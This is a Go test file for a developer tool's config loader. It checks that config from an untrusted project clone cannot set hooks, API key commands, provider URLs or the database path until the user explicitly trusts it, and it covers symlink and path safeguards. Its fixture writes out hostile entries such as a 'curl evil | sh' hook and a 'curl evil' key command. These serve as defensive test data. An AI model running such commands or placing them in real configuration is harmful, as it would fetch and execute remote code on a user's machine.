package config

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/agit-suite/agit/shared/fault"
)

const hostile = `[hooks]
post_spawn = ["curl evil | sh"]
timeout = "3m"
[database]
path = "/tmp/stolen.db"
[providers.linear]
api_key = "x"
api_key_command = "curl evil"
[provider]
url = "https://evil.example"
name = "jira"
[[repo]]
name = "app"
hooks.pre_merge = ["rm x"]
`

func TestProjectIsNotTrusted(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", hostile)
	w.write("project/.pm/config.json", `{"provider_config": {"url": "https://evil.example", "api_token": "${HOME}"}, "max_database_size": 1048576}`)
	c := w.load()
	if c.Hooks.PostSpawn != nil || c.Provider.URL != "" || c.Providers.Linear.APIKey != "" || c.Providers.Linear.APIKeyCommand != "" ||
		c.ForRepo("app").Hooks.PreMerge != nil || c.Providers.Jira.APIToken != "" || c.MaxDatabaseSize != 512<<20 {
		t.Errorf("a clone sets %+v", c)
	}
	if c.Database.Path != filepath.Join(w.UserHome, ".agit", "agit.db") {
		t.Errorf("a clone moves the registry to %s", c.Database.Path)
	}
	if c.Provider.Name != "jira" || FormatDuration(c.Hooks.Timeout) != "3m" {
		t.Errorf("harmless settings count: %+v", c)
	}
	warnings := strings.Join(c.Warnings(), "\n")
	for _, key := range []string{"database.path", "providers.linear.api_key,", "providers.linear.api_key_command", "max_database_size", "providers.jira.api_token"} {
		if !strings.Contains(warnings, key) {
			t.Errorf("no warning of %s in\n%s", key, warnings)
		}
	}
	for _, key := range []string{"hooks.post_spawn", "provider.url", "hooks.pre_merge"} {
		if !strings.Contains(c.UntrustedWarning(), key) {
			t.Errorf("%s does not wait for trust: %s", key, c.UntrustedWarning())
		}
	}
}

func files(t *testing.T, o Options) []ProjectFile {
	t.Helper()
	files, err := ProjectFiles(o)
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func TestTrust(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", hostile)
	list := files(t, w.Options)
	if len(list) != 1 || list[0].State != Untrusted || len(list[0].Needs) != 3 || list[0].Needs[0].Origin != ".agit.toml:2" {
		t.Fatalf("before: %+v", list)
	}
	if err := Trust(w.Options, list); err != nil {
		t.Fatal(err)
	}
	c := w.load()
	if len(c.Hooks.PostSpawn) != 1 || c.Provider.URL == "" || c.UntrustedWarning() != "" || len(c.ForRepo("app").Hooks.PreMerge) != 1 {
		t.Errorf("trusted hooks do not count: %+v", c)
	}
	if c.Database.Path == "/tmp/stolen.db" || c.Providers.Linear.APIKeyCommand != "" {
		t.Error("trust lets a project set commands or the registry")
	}
	if info, err := os.Stat(w.path("home/.agit/trusted")); err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("the record: %v, %v", info, err)
	}

	w.write("project/.agit.toml", hostile+"# changed\n")
	if c := w.load(); c.Hooks.PostSpawn != nil || files(t, w.Options)[0].State != Changed {
		t.Error("changed content is still trusted")
	}
	w.write("project/.agit.toml", hostile)
	if c := w.load(); len(c.Hooks.PostSpawn) != 1 {
		t.Error("the content that was trusted is not")
	}
	if err := Untrust(w.Options); err != nil {
		t.Fatal(err)
	}
	if c := w.load(); c.Hooks.PostSpawn != nil || files(t, w.Options)[0].State != Untrusted {
		t.Error("trust was not taken back")
	}
}

// Trust covers the content that was shown, not what the file holds a moment later.
func TestTrustIsForWhatWasSeen(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", "hooks.post_spawn = [\"harmless\"]")
	list := files(t, w.Options)
	w.write("project/.agit.toml", hostile)
	if err := Trust(w.Options, list); err != nil {
		t.Fatal(err)
	}
	if c := w.load(); c.Hooks.PostSpawn != nil {
		t.Error("unseen hooks are trusted")
	}
}

func TestTrustElsewhere(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", hostile)
	if err := Trust(w.Options, files(t, w.Options)); err != nil {
		t.Fatal(err)
	}
	w.write("copy/.agit.toml", hostile)
	copied := w.Options
	copied.Project = w.path("copy")
	if c, err := Load(copied); err != nil || c.Hooks.PostSpawn != nil {
		t.Errorf("another project with the same file is trusted: %v", err)
	}
	copied.TrustRoot = w.Project // a worktree of the same repository
	if c, err := Load(copied); err != nil || c.Hooks.PostSpawn == nil {
		t.Errorf("a worktree does not share its repository's trust: %v", err)
	}
	if runtime.GOOS == "windows" {
		return
	}
	if err := os.Symlink(w.Project, w.path("link")); err != nil {
		t.Fatal(err)
	}
	linked := w.Options
	linked.Project = w.path("link")
	if c, err := Load(linked); err != nil || c.Hooks.PostSpawn == nil {
		t.Errorf("the project reached by a link is another: %v", err)
	}
}

func TestTrustRecord(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", hostile)
	path := w.write("home/.agit/trusted", "nonsense\n\nabc \"x\"\n")
	if c := w.load(); c.Hooks.PostSpawn != nil {
		t.Error("nonsense is trust")
	}
	if err := Trust(w.Options, files(t, w.Options)); err != nil {
		t.Fatal(err)
	}
	if runtime.GOOS == "windows" {
		return
	}
	if err := os.Chmod(path, 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(w.Options); !fault.Is(err, fault.KindValidation) {
		t.Errorf("a record that anybody can write: %v", err)
	}
}

func TestTrustConcurrently(t *testing.T) {
	w := newWorld(t)
	var options []Options
	for _, name := range []string{"a", "b", "c", "d", "e", "f", "g", "new\nline"} {
		w.write(name+"/.agit.toml", hostile)
		o := w.Options
		o.Project = w.path(name)
		options = append(options, o)
	}
	var wg sync.WaitGroup
	for _, o := range options {
		wg.Go(func() {
			list, err := ProjectFiles(o)
			if err == nil {
				err = Trust(o, list)
			}
			if err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	for _, o := range options {
		if c, err := Load(o); err != nil || c.Hooks.PostSpawn == nil {
			t.Errorf("%q lost its trust: %v", o.Project, err)
		}
	}
}

func TestProjectWorktreeFolder(t *testing.T) {
	for dir, ok := range map[string]bool{"trees": true, "a/b": true, "../x": false, "/etc": false, ".": false, "~": false, "~/x": false, ".git/x": false,
		".GIT": false, "a/../..": false, "a/../.git": false} {
		w := newWorld(t)
		w.write("project/.agit.toml", "worktree.dir = \""+dir+"\"\ncitecheck.dir = \""+dir+"\"")
		if c := w.load(); c.Worktree.Dir != ".worktrees" || (c.Citecheck.Dir == dir) != ok {
			t.Errorf("%q: untrusted it sets %q, and %q for memories", dir, c.Worktree.Dir, c.Citecheck.Dir)
		}
		list := files(t, w.Options)
		if (len(list[0].Needs) == 1) != ok {
			t.Errorf("%q: %+v waits for trust", dir, list[0].Needs)
		}
		if err := Trust(w.Options, list); err != nil {
			t.Fatal(err)
		}
		if c := w.load(); (c.Worktree.Dir == dir) != ok {
			t.Errorf("%q: trusted it sets %q", dir, c.Worktree.Dir)
		}
	}
}

// A link in a clone must not have other files read, nor its text shown.
func TestProjectFileIsALink(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("links need a right there")
	}
	w := newWorld(t)
	w.write("private/secret", "not TOML: hunter2")
	w.write("private/config.json", `{"sync": {"push_debounce_seconds": 99}}`)
	w.write("project/kept.toml", "sync.push_debounce_seconds = 42\n")
	for link, target := range map[string]string{"project/.agit.toml": "../private/secret", "project/.pm": "../private"} {
		if err := os.Symlink(target, w.path(link)); err != nil {
			t.Fatal(err)
		}
	}
	c := w.load()
	if c.Sync.PushDebounceSeconds != 5 || len(c.Warnings()) != 2 || strings.Contains(strings.Join(c.Warnings(), ""), "hunter2") || len(files(t, w.Options)) != 0 {
		t.Errorf("%d, %q", c.Sync.PushDebounceSeconds, c.Warnings())
	}
	if err := os.Remove(w.path("project/.agit.toml")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("kept.toml", w.path("project/.agit.toml")); err != nil {
		t.Fatal(err)
	}
	if c := w.load(); c.Sync.PushDebounceSeconds != 42 {
		t.Errorf("a link inside the project is not followed: %d, %q", c.Sync.PushDebounceSeconds, c.Warnings())
	}
}

// The keys of a section are taken out of a project's file, and the rest of it stays.
func TestClearProject(t *testing.T) {
	w := newWorld(t)
	w.write("project/.agit.toml", "# ours\n[sync]\npush_debounce_seconds = 42\n[provider] # theirs\nname = 'linear'\nstate_for = [\n  'done=Done',\n]\n# kept\n")
	if err := ClearProject(w.Options, "provider"); err != nil {
		t.Fatal(err)
	}
	kept, err := os.ReadFile(w.path("project/.agit.toml"))
	if err != nil || string(kept) != "# ours\n[sync]\npush_debounce_seconds = 42\n[provider] # theirs\n# kept\n" {
		t.Errorf("%q, %v", kept, err)
	}
}

// A change of a project's file is made in the file that a link in its place points to; the link stays.
func TestSetProjectThroughALink(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("links need a right there")
	}
	w := newWorld(t)
	w.write("project/kept.toml", "# ours\n")
	link := w.path("project/.agit.toml")
	if err := os.Symlink("kept.toml", link); err != nil {
		t.Fatal(err)
	}
	if err := SetProject(w.Options, "sync.push_debounce_seconds", "42"); err != nil {
		t.Fatal(err)
	}
	if to, err := os.Readlink(link); err != nil || to != "kept.toml" {
		t.Errorf("the link leads to %q, %v", to, err)
	}
	kept, err := os.ReadFile(w.path("project/kept.toml"))
	if err != nil || string(kept) != "# ours\n\n[sync]\npush_debounce_seconds = 42\n" {
		t.Errorf("%q, %v", kept, err)
	}
	if info, err := os.Stat(link); err != nil || info.Mode().Perm() != 0o644 {
		t.Errorf("%v, %v", info, err)
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../outside.toml", link); err != nil {
		t.Fatal(err)
	}
	if err := SetProject(w.Options, "sync.push_debounce_seconds", "42"); err == nil || !strings.Contains(err.Error(), "outside of the project") {
		t.Errorf("through a link that leads outside: %v", err)
	}
}
